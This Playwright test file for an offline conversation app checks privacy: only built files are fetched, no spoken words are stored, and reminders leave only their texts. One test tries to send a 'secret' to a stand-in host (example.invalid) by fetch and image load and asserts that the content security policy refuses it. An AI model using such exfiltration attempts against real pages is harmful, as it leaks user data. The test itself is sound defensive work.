import { fill } from '../../src/core/text/fill.ts';
import { expect, test } from '../support/app.ts';
import { builtFolder, pathsOf } from '../support/audits/watch.ts';
import { names } from '../support/pages/home.ts';
import { dealt } from '../support/sittings/dealt.ts';
import { words } from '../support/sittings/said.ts';
import { readKept } from '../support/sittings/stored.ts';

test.use({ offlineCopy: true });

const { talk } = words;
const { cards } = dealt('now');
const morning = Date.parse('2026-11-23T10:00:00+01:00');

test('over a whole sitting only the files of the build are asked for, and nothing once the table is open', async ({
  page,
  home,
  table,
  watched,
  server,
}) => {
  await page.clock.install();
  await home.throughWelcome();
  await page.waitForFunction(() => navigator.serviceWorker.controller?.state === 'activated');
  // A browser looks by itself for a new worker, once, soon after a page was opened from the copy.
  const looks = () => server.asked.filter((path) => path === '/sw.js').length;
  const looked = looks();
  await page.reload();
  await home.isOpen();
  await expect.poll(looks).toBe(looked + 1);
  const before = watched.requests.length;
  const reached = server.asked.length;
  await home.sitDownToLightTalk();
  await table.bothReady();
  await table.allCards(cards);
  await table.close();
  await home.button(talk.doneHome).first().click();
  await home.isOpen();
  // The browser looks at the page's icon again by itself; the copy on the tablet answers.
  const later = watched.requests.slice(before).map(({ url }) => url.pathname);
  expect(later.filter((path) => path !== '/mark.svg')).toEqual([]);
  expect(server.asked.slice(reached)).toEqual([]);
  const asked = new Set(watched.requests.map(({ url }) => url.pathname));
  expect([...asked].filter((path) => !pathsOf(builtFolder).has(path))).toEqual([]);
  expect(watched.requests.some(({ worker }) => worker)).toBe(true);
});

test('after a sitting the tablet holds the settings and one trace, and no word that was said', async ({
  page,
  home,
  table,
}) => {
  await page.clock.install({ time: morning });
  await home.welcome();
  await home.sitDownToLightTalk();
  await table.bothReady();
  await table.pauseNow();
  await table.touch('a', words.pause.goOn);
  await table.allCards(cards.slice(0, 2));
  await table.check({ a: 'checkGoOn', b: 'checkEnough' });
  await table.close();

  const { records, state, slots } = await readKept(page);
  expect(state.map(({ id }) => id).filter((id) => id !== 'reminders')).toEqual(['settings']);
  expect(slots).toEqual([]);
  expect(records).toHaveLength(1);
  const { kind, body: held } = records[0]!.value as { kind: string; body: Record<string, unknown> };
  expect(kind).toBe('held');
  expect(Object.keys(held).sort()).toEqual(['conversation', 'day', 'finished', 'id', 'on', 'prompts']);
  expect(held).toMatchObject({
    conversation: 'now',
    finished: true,
    prompts: cards.slice(0, 2).map(({ prompt }) => prompt),
  });
  expect(held.on).toBeGreaterThanOrEqual(morning);

  const elsewhere = await page.evaluate(async () => ({
    local: { ...localStorage },
    session: { ...sessionStorage },
    cookies: document.cookie,
    databases: (await indexedDB.databases()).map(({ name }) => name),
    cached: (await Promise.all((await caches.keys()).map(async (name) => (await caches.open(name)).keys())))
      .flat()
      .map(({ url }) => new URL(url).pathname),
    title: document.title,
  }));
  expect(elsewhere.local).toEqual({
    'first-paint': 'yes system 100',
    database: 'answered',
    'last-look': expect.stringMatching(/^\d+$/),
    use: 'in use',
  });
  expect(elsewhere.session).toEqual({});
  expect(elsewhere.cookies).toBe('');
  expect(elsewhere.databases).toEqual(['common-ground']);
  expect(elsewhere.cached.filter((path) => !pathsOf(builtFolder).has(path))).toEqual([]);
  expect(elsewhere.title).toBe(words.common.app);
});

test('a sitting stopped and let go tells from no record who stopped, paused or skipped', async ({
  page,
  home,
  table,
}) => {
  await home.welcome();
  await home.sitDownToLightTalk();
  await table.bothReady();
  await table.pauseNow();
  await table.touch('b', words.pause.goOn);
  await table.touch('a', talk.gentler);
  await table.touch('b', talk.skip);
  await table.stop('b');
  const during = JSON.stringify((await readKept(page)).state.find(({ id }) => id === 'sitting'));
  expect(during).not.toMatch(/"(by|who|partner|paused|skipped|stoppedBy|count)"/i);
  await table.touch('a', words.pause.letGo);
  await expect(page.getByRole('heading', { name: talk.doneTitle })).toBeVisible();
  const { records, state } = await readKept(page);
  expect(records).toEqual([]);
  expect(state.map(({ id }) => id).filter((id) => id !== 'reminders')).toEqual(['settings']);
});

test('of reminders nothing remains but their texts, so that none comes again too soon', async ({
  page,
  home,
  table,
}) => {
  await page.clock.install({ time: morning });
  await home.welcome();
  await home.choose('floor');
  await home.answer(words.forecast.firstTitle, names.a);
  await home.sitDown();
  await expect(page.getByRole('button', { name: fill(talk.reminderAway, { text: '' }).trim() }).first()).toBeVisible();
  await table.stop('a');
  await table.touch('a', words.pause.letGo);
  await expect(page.getByRole('heading', { name: talk.doneTitle })).toBeVisible();
  const told = async () => (await readKept(page)).state.find(({ id }) => id === 'reminders')?.value;
  await expect.poll(told).toMatchObject({ sitting: null, here: [] });
  expect(JSON.stringify(await told())).not.toMatch(/Mira|Jon|floor/);
});

test('the policy refuses every way out that a script has', async ({ page, home, watched }) => {
  watched.expectConsole(
    /policy|Content Security|Trusted Type|TrustedScript|Refused|violat|Connection-Allowlist|blocked/i,
  );
  watched.expectRequest(/example\.invalid/);
  await home.welcome();
  const tried = await page.evaluate(async () => {
    const out = 'https://example.invalid/?word=secret';
    const refused = (run: () => unknown) => {
      try {
        return run() === false ? 'refused' : 'let through';
      } catch {
        return 'refused';
      }
    };
    const seen = new Promise<boolean>((resolve) => {
      const image = new Image();
      image.onload = () => resolve(true);
      image.onerror = () => resolve(false);
      image.src = out;
    });
    return {
      fetch: await fetch(out, { mode: 'no-cors' }).then(
        () => 'let through',
        () => 'refused',
      ),
      image: (await seen) ? 'let through' : 'refused',
      html: refused(() => {
        document.createElement('p').innerHTML = '<b>x</b>';
      }),
      worker: refused(() => new Worker('other.js')),
    };
  });
  expect(tried).toEqual({ fetch: 'refused', image: 'refused', html: 'refused', worker: 'refused' });
});

test('the calls that go past a policy where a browser knows no better one are taken from the page', async ({
  page,
  home,
}) => {
  const calls = ['RTCPeerConnection', 'webkitRTCPeerConnection', 'RTCDataChannel'];
  const there = () => page.evaluate((names) => names.filter((name) => name in globalThis), calls);
  await page.goto('./mark.svg');
  expect(await there()).toContain('RTCPeerConnection');
  await home.welcome();
  await expect.poll(there).toEqual([]);
});

test('the watch of these tests sees a warning and a request to elsewhere', async ({ page, home, watched }) => {
  await home.welcome();
  await page.evaluate(() => {
    // biome-ignore lint/suspicious/noConsole: this is what the watch is to see
    console.warn('a warning');
    new Image().src = 'https://example.invalid/';
  });
  await expect.poll(() => watched.faults.join('\n')).toMatch(/img-src https:\/\/example\.invalid/);
  expect(watched.faults.join('\n')).toContain('console warning: a warning');
  watched.faults.length = 0;
});
